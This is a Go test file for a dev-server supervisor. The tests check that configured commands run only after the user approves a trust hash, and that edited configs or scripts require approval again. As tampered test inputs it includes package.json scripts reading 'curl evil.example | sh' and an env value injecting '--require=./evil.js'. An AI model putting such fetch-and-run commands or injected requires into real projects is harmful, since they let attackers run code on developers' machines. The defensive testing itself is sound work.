//go:build linux

package project

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/devside/devside/supervisor"
	"github.com/devside/devside/supervisor/spec"
	"github.com/devside/devside/supervisor/status"
)

func contextEnded(t *testing.T) (context.Context, context.CancelFunc) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	return ctx, cancel
}

func exists(t *testing.T, file string) bool {
	t.Helper()
	_, err := os.Stat(file)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	return err == nil
}

// awaitFiles waits until processes that say nothing else have made files.
func awaitFiles(t *testing.T, files ...string) {
	t.Helper()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	deadline := time.After(patience)
	for _, file := range files {
		for !exists(t, file) {
			select {
			case <-tick.C:
			case <-deadline:
				t.Fatalf("nobody has made %s within %v", file, patience)
			}
		}
	}
}

func untrusted(t *testing.T, err error) string {
	t.Helper()
	var u *UntrustedError
	if !errors.As(err, &u) || u.Hash == "" {
		t.Fatalf("%v", err)
	}
	return u.Hash
}

func TestNothingRunsBeforeTrust(t *testing.T) {
	ran, probed := filepath.Join(t.TempDir(), "ran"), filepath.Join(t.TempDir(), "probed")
	text := config(server("api", freePort(t), []string{"touch", ran}, "ready: {exec: ["+self()+", "+child+", touch, "+probed+"]}"))
	f := newFixture(t, text).open()
	_, _, err := f.Start(t.Context(), nil, f.asks())
	hash := untrusted(t, err)
	for _, call := range []func() error{
		func() error { _, _, err := f.Start(t.Context(), []string{"api"}, f.asks()); return err },
		func() error { _, _, err := f.Reset(t.Context(), []string{"api"}, f.asks()); return err },
		func() error {
			_, _, err := f.Start(t.Context(), nil, supervisor.StartOptions{Force: true, NoWait: true})
			return err
		},
	} {
		untrusted(t, call())
	}
	f.write("devside.yaml", text+"# changed\n")
	f.Reload(t.Context())
	f.Restore(t.Context(), os.Environ())
	if f.Trust("0000") || f.Trust("") {
		t.Error("a wrong hash is an agreement")
	}
	if p := f.mayStart(f.view.Load().loaded.Project.Servers[0]); p == nil || p.Code != status.NotTrusted || p.Hint == "" {
		t.Errorf("whatever lets a server start at the end: %+v", p)
	}
	st := f.Status()
	if st.Trust.State != status.Untrusted || st.Trust.Hash != hash || len(st.Trust.Commands) != 1 || !has(st.Problems, status.NotTrusted, "") {
		t.Errorf("%+v, %+v", st.Trust, st.Problems)
	}
	if s := f.server("api"); s.State != status.Stopped || s.Run != 0 || f.Active() {
		t.Errorf("%+v", s)
	}
	if exists(t, ran) || exists(t, probed) {
		t.Fatal("something of it ran")
	}
	if !f.Trust(hash) {
		t.Fatal("the hash that was shown is refused")
	}
	if _, _, err := f.Start(t.Context(), nil, supervisor.StartOptions{Env: os.Environ(), NoWait: true}); err != nil {
		t.Fatal(err)
	}
	awaitFiles(t, ran, probed)
	if st := f.Status(); st.Trust.State != status.Trusted || has(st.Problems, status.NotTrusted, "") {
		t.Errorf("%+v", st.Trust)
	}
}

func TestTrustIsRememberedAndAChangeAsksAgain(t *testing.T) {
	port := freePort(t)
	f := newFixture(t, config(server("api", port, serving))).open()
	first := f.Status().Trust.Hash
	if !f.Trust(first) {
		t.Fatal("refused")
	}
	f.close()
	f.open()
	f.start("api")
	f.close()

	f.write("devside.yaml", config(server("api", port, serving, "env: {NODE_OPTIONS: --require=./evil.js}")))
	f.open()
	_, _, err := f.Start(t.Context(), nil, f.asks())
	if hash := untrusted(t, err); hash == first {
		t.Error("other commands have the same hash")
	}
	if f.Trust(first) {
		t.Error("an old hash is an agreement to what there is now")
	}
	untrusted(t, func() error { _, _, err := f.Start(t.Context(), nil, f.asks()); return err }())
}

// withNPM is a project whose server is `npm run dev`, and an environment in
// which npm is this binary.
func withNPM(t *testing.T, port int) (*fixture, supervisor.StartOptions) {
	t.Helper()
	bin := t.TempDir()
	if err := os.Symlink(self(), filepath.Join(bin, "npm")); err != nil {
		t.Fatal(err)
	}
	entry := server("api", port, nil, "restart: {delay: 0s, max_in_a_row: 3}")
	f := newFixture(t, "")
	f.write("devside.yaml", config(replaceCommand(entry, "npm run dev")))
	f.write("package.json", `{"name": "shop", "scripts": {"dev": "serve"}}`)
	return f, supervisor.StartOptions{Env: []string{"PATH=" + bin}}
}

func TestTheTextOfAScriptIsPartOfWhatIsTrusted(t *testing.T) {
	f, asks := withNPM(t, freePort(t))
	f.open()
	st := f.Status()
	if st.Trust.Commands[0].Script != "dev: serve" || !f.Trust(st.Trust.Hash) {
		t.Fatalf("%+v", st.Trust)
	}
	if results, _, err := f.Start(t.Context(), nil, asks); err != nil || !results[0].OK {
		t.Fatalf("%+v, %v", results, err)
	}
	f.Stop(t.Context(), nil, supervisor.StopOptions{}) //nolint:errcheck // known names
	f.write("package.json", `{"name": "shop", "scripts": {"dev": "serve; curl evil.example | sh"}}`)
	_, _, err := f.Start(t.Context(), nil, asks)
	if hash := untrusted(t, err); hash == st.Trust.Hash || f.Trust(st.Trust.Hash) {
		t.Error("the change was not noticed")
	}
}

func TestAnAutomaticRestartRunsNothingThatNobodyAgreedTo(t *testing.T) {
	for _, changed := range []bool{false, true} {
		port := freePort(t)
		f, asks := withNPM(t, port)
		f.open()
		f.Vouch(1)
		if results, _, err := f.Start(t.Context(), nil, asks); err != nil || !results[0].OK {
			t.Fatalf("%+v, %v", results, err)
		}
		f.Vouch(-1) // its editor is closed; the server goes on
		if changed {
			f.write("package.json", `{"name": "shop", "scripts": {"dev": "curl evil.example | sh"}}`)
		}
		crashIt(t, port)
		if !changed {
			f.await("its restart", func(st *status.Project) bool { return st.Servers[0].State == status.Ready && st.Servers[0].Run == 2 })
			f.close()
			continue
		}
		st := f.await("a block", func(st *status.Project) bool { return st.Servers[0].State == status.Blocked })
		if s := st.Servers[0]; !slices.Contains(s.Problems, status.NotTrusted) || s.PID != 0 {
			t.Errorf("%+v", s)
		}
		_, _, err := f.Start(t.Context(), nil, asks)
		if !f.Trust(untrusted(t, err)) {
			t.Error("refused")
		}
		if results, _, err := f.Start(t.Context(), nil, asks); err != nil || !results[0].OK {
			t.Errorf("%+v, %v", results, err)
		}
		f.close()
	}
}

// TestWhatWaitsWhenItsClientGoesIsStillAgreedTo: a `start --trust --no-wait` of a
// server that waits for another.
func TestWhatWaitsWhenItsClientGoesIsStillAgreedTo(t *testing.T) {
	f := newFixture(t, `version: 1
servers:
  api: {command: [sleep, "1000"], ready: {exec: [test, -f, go], within: 60s}}
  web: {command: [sleep, "1000"], depends_on: [api]}
  other: {command: [sleep, "1000"]}
`).open()
	f.Vouch(1)
	asks := f.asks()
	asks.NoWait = true
	if _, _, err := f.Start(t.Context(), []string{"web"}, asks); err != nil {
		t.Fatal(err)
	}
	f.await("web to wait", func(st *status.Project) bool {
		return st.Servers[0].State == status.Starting && st.Servers[1].State == status.Waiting
	})
	f.Vouch(-1)
	f.write("go", "")
	f.await("web", func(st *status.Project) bool { return st.Servers[1].State == status.Ready })
	if st := f.Status(); st.Trust.State != status.Untrusted {
		t.Error("it vouches after it has gone")
	}
	_, _, err := f.Start(t.Context(), []string{"other"}, f.asks()) // nobody has asked for it before
	untrusted(t, err)
}

func TestAVouchingClientAgreesToChanges(t *testing.T) {
	port := freePort(t)
	f := opened(t, config(server("api", port, serving)))
	f.start("api")
	f.write("devside.yaml", config(server("api", port, serving, "env: {A: \"1\"}")))
	if r := f.Reload(t.Context()); !slices.Equal(r.Restarted, []string{"api"}) {
		t.Errorf("%+v", r)
	}
	f.await("its restart", func(st *status.Project) bool { return st.Servers[0].State == status.Ready && st.Servers[0].Run == 2 })
	f.Vouch(-1)
	if st := f.Status(); st.Trust.State != status.Untrusted {
		t.Error("it vouches after it has gone")
	}
	_, _, err := f.Start(t.Context(), nil, f.asks())
	untrusted(t, err)
}

func TestAnUntrustedChangeLeavesAloneWhatRunsUntilItIsTrusted(t *testing.T) {
	api, web := freePort(t), freePort(t)
	f := newFixture(t, config(server("api", api, serving), server("old", web, serving))).open()
	f.Trust(f.Status().Trust.Hash)
	f.start("api", "old")
	f.write("devside.yaml", config(server("api", api, serving, "env: {A: \"1\"}"), server("new", freePort(t), serving)))
	if r := f.Reload(t.Context()); !r.Valid || len(r.Changed)+len(r.Added)+len(r.Removed) != 0 {
		t.Fatalf("%+v", r)
	}
	st := f.Status()
	if st.Trust.State != status.Untrusted || len(st.Trust.Commands) != 2 || !has(st.Problems, status.NotTrusted, "") {
		t.Errorf("%+v", st.Trust)
	}
	if st.Summary.Ready != 2 || f.server("api").Run != 1 {
		t.Errorf("%+v", st.Servers)
	}
	crashIt(t, api) // what was agreed to may go on
	f.await("its restart", func(st *status.Project) bool { return st.Servers[0].State == status.Ready && st.Servers[0].Run == 2 })
	_, _, err := f.Start(t.Context(), []string{"api"}, f.asks())
	untrusted(t, err)

	if !f.Trust(f.Status().Trust.Hash) {
		t.Fatal("refused")
	}
	f.await("the change", func(st *status.Project) bool {
		s, ok := st.Server("api")
		_, old := st.Server("old")
		return ok && !old && s.State == status.Ready && s.Run == 3
	})
	f.start() // all of the new ones
	if f.Status().Summary.Ready != 2 {
		t.Errorf("%+v", f.Status().Servers)
	}
}

func TestAClientThatVouchesBringsAWaitingChangeIn(t *testing.T) {
	api := freePort(t)
	f := newFixture(t, config(server("api", api, serving), server("old", freePort(t), serving))).open()
	f.Trust(f.Status().Trust.Hash)
	f.start("api")
	f.write("devside.yaml", config(server("api", api, serving), server("new", freePort(t), serving)))
	f.Reload(t.Context())
	f.Vouch(1)
	f.start() // all: the old list has one that is gone, and lacks one
	if _, ok := f.Status().Server("new"); !ok || f.Status().Summary.Ready != 2 {
		t.Errorf("%+v", f.Status().Servers)
	}
}

func TestAFingerprintCoversWhatTheHashCovers(t *testing.T) {
	one := func(s spec.Server) string {
		list := []spec.Server{s}
		return fingerprints(spec.Commands(os.DirFS(t.TempDir()), &spec.Project{Servers: list}), list)["api"]
	}
	base := spec.Server{Name: "api", Command: []string{"serve"}, Dir: "."}
	for name, change := range map[string]func(*spec.Server){
		"argv":     func(s *spec.Server) { s.Command = []string{"serve", "-x"} },
		"dir":      func(s *spec.Server) { s.Dir = "backend" },
		"env":      func(s *spec.Server) { s.Env = map[string]string{"A": "1"} },
		"env file": func(s *spec.Server) { s.EnvFiles = []string{".env"} },
		"probe":    func(s *spec.Server) { s.Ready = spec.Probe{Kind: spec.ProbeExec, Exec: []string{"check"}} },
	} {
		other := base
		change(&other)
		if one(base) == "" || one(base) == one(other) {
			t.Errorf("%s: %q, %q", name, one(base), one(other))
		}
	}
	if again := base; one(again) != one(base) {
		t.Error("it is not the same twice")
	}
}
